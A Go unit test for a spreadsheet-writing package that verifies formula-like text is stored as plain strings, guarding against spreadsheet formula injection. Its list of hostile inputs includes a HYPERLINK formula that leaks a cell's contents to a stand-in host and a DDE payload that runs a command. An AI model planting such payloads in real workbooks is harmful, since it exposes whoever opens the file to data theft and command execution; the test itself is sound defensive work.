package gsswriter_test

import (
	"archive/zip"
	"bytes"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/ddat-workforce/returns/shared/gsswriter"
)

// Text that a spreadsheet would run as a formula, such as an organisation's notes or a
// name, is written as a string: opening the workbook shows the text and runs nothing.
func TestTextThatLooksLikeAFormulaIsWrittenAsText(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")`,
		"=1+1",
		"+44 20 7946 0000",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(A1:A9)",
	}
	var rows [][]gsswriter.Cell
	for i, s := range hostile {
		rows = append(rows, []gsswriter.Cell{s, i + 1})
	}
	wb := gsswriter.Workbook{
		Title:      "=Formula title",
		Properties: gsswriter.Properties{Creator: "test", Created: time.Date(2026, 4, 30, 0, 0, 0, 0, time.UTC)},
		Cover:      []gsswriter.CoverItem{{Heading: "=Heading", Text: "=cover text"}},
		Notes:      []gsswriter.Note{{Number: 1, Text: "=note text"}},
		Tables: []gsswriter.Table{{
			Sheet:   "Notes by organisation",
			Title:   "Table 1: notes",
			Columns: []gsswriter.Column{{Header: "=Notes"}, {Header: "Row (number)", Kind: gsswriter.Count}},
			Rows:    rows,
		}},
	}
	b, err := gsswriter.Write(wb)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()

	want := map[string]bool{"=Formula title": false, "=Heading": false, "=cover text": false, "=note text": false, "=Notes": false}
	for _, s := range hostile {
		want[s] = false
	}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, err := f.GetCellFormula(sheet, ref)
				if err != nil || formula != "" {
					t.Errorf("%s!%s has formula %q (%v)", sheet, ref, formula, err)
				}
				if _, ok := want[v]; ok {
					want[v] = true
					if typ, _ := f.GetCellType(sheet, ref); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
						t.Errorf("%s!%s %q has cell type %v, want a string", sheet, ref, v, typ)
					}
				}
			}
		}
	}
	for s, found := range want {
		if !found {
			t.Errorf("%q is not in the workbook as its text", s)
		}
	}
	// And no sheet holds a formula element at all.
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range z.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
			continue
		}
		rc, _ := zf.Open()
		x, _ := io.ReadAll(rc)
		_ = rc.Close()
		if bytes.Contains(x, []byte("<f>")) || bytes.Contains(x, []byte("<f ")) {
			t.Errorf("%s holds a formula", zf.Name)
		}
	}
}
